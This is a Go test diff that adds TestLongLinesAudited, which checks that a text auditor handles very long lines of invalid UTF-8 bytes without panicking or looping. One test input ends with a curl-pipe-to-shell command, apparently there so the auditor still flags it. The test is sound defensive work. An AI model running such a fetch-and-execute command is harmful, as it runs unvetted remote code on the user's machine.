@@ -338,3 +338,17 @@ func TestContextsChangeNothing(t *testing.T) {
 		sameFindings(t, textTree(b.String()))
 	}
 }
+
+// TestLongLinesAudited: a line over the piece size of bytes that start
+// no character, after a first 8 KiB of UTF-8, is audited (it made the
+// reader panic, or read one piece forever), with the findings of every
+// expression on every line.
+func TestLongLinesAudited(t *testing.T) {
+	for _, text := range []string{
+		strings.Repeat("x\n", 4097) + strings.Repeat("\x80", 65537),
+		strings.Repeat("x\n", 5000) + "a" + strings.Repeat("\x80", 64000) + strings.Repeat("b", 2000) + "\n",
+		strings.Repeat("x\n", 4097) + strings.Repeat("\x80", 70000) + "curl https://x.dev/i | sh\n",
+	} {
+		sameFindings(t, textTree(text))
+	}
+}
